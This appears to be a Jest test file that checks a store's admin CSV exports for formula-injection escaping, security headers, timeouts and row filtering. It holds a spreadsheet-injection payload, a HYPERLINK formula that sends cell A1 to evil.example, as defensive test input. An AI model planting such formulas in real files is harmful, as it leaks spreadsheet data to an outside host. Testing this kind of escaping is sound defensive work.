import { type Person, sampleOrder, sampleProduct, signUpAdmin, storeProducts } from '../../test/samples';
import { startTestApp, type TestApp } from '../../test/test-app';
import { Transactions } from '../database/transactions';
import { ProductImport } from '../product/product-import';

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
const HARMLESS = '"\'=HYPERLINK(""https://evil.example?""&A1,""Click"")"';

describe('CSV exports', () => {
  let test: TestApp;
  let admin: Person;
  beforeAll(async () => {
    test = await startTestApp();
    admin = await signUpAdmin(test.dataSource, test.client());
    const [product] = (await storeProducts(test.dataSource, { title: FORMULA, sellerName: '@SUM(A1)' })) as [number];
    await test
      .client()
      .post('/api/orders', sampleOrder(product, { customerName: FORMULA, customerTelegram: '@carla' }));
    const contact = { buyerName: FORMULA, buyerEmail: 'bea@example.com', message: '-1\n"quoted"', productId: product };
    await test.client().post('/api/contact', contact);
  });
  afterAll(() => test.stop());

  const get = (path: string) => admin.client.get(`/api/admin/${path}`);

  it.each([
    ['products', ['id', 'title', 'price'], [HARMLESS, "'@SUM(A1)"]],
    ['orders', ['id', 'orderId', 'status', 'total'], [HARMLESS, "'@carla", '10.00']],
    ['users', ['id', 'username', 'orderCount'], ['true']],
    ['messages', ['kind', 'id', 'message'], [HARMLESS, '"\'-1\n""quoted"""']],
  ])('are downloads without a formula: %s', async (name, columns, cells) => {
    const response = await get(`${name}/csv`);
    expect(response).toMatchObject({
      status: 200,
      headers: {
        'content-type': 'text/csv; charset=utf-8',
        'content-disposition': `attachment; filename="${name}.csv"`,
        'cache-control': 'no-store',
        'x-content-type-options': 'nosniff',
      },
    });
    const [heading = ''] = response.text.split('\r\n');
    // With the mark, Excel reads the file as UTF-8.
    expect(heading.split(',')).toEqual(expect.arrayContaining(columns.with(0, `\ufeff${columns[0]}`)));
    for (const cell of cells) expect(response.text).toContain(cell);
    expect(response.text).not.toMatch(/(^|,|\n)"?[=@]/);
    expect(response.text.endsWith('\r\n')).toBe(true);
    expect(response.text).not.toContain('passwordHash');
  });

  it.each([
    ...['products', 'orders', 'users', 'messages'].map((name) => `/api/admin/${name}/csv`),
    ...['json', 'html'].map((type) => `/api/users/me/data/export/1/${type}`),
  ])('are allowed ten minutes at %s', async (path) => {
    const timers = jest.spyOn(globalThis, 'setTimeout');
    await admin.client.get(path);
    const times = timers.mock.calls.map(([, ms]) => ms);
    timers.mockRestore();
    expect(times).toContain(10 * 60_000);
  });

  it('contain every row that matches the filter exactly once', async () => {
    const many = Array.from({ length: 1_500 }, (_, index) => sampleProduct({ title: `Row ${index}`, category: 'bot' }));
    await new ProductImport(new Transactions(test.dataSource)).insert(many);
    const bots = (await get('products/csv?category=bot&q=Row')).text.trim().split('\r\n').slice(1);
    const titles = bots.map((line) => line.split(',')[1]);
    expect(titles.sort()).toEqual(many.map((product) => product.title).sort());
    expect((await get('products/csv?q=nothing%20like%20it')).text.split('\r\n')).toHaveLength(2);
    expect((await get('orders/csv?status=completed')).text.split('\r\n')).toHaveLength(2);
    expect((await get('messages/csv?kind=ticket')).text.split('\r\n')).toHaveLength(2);
    expect((await get('products/csv?verified=maybe')).status).toBe(400);
  });
});
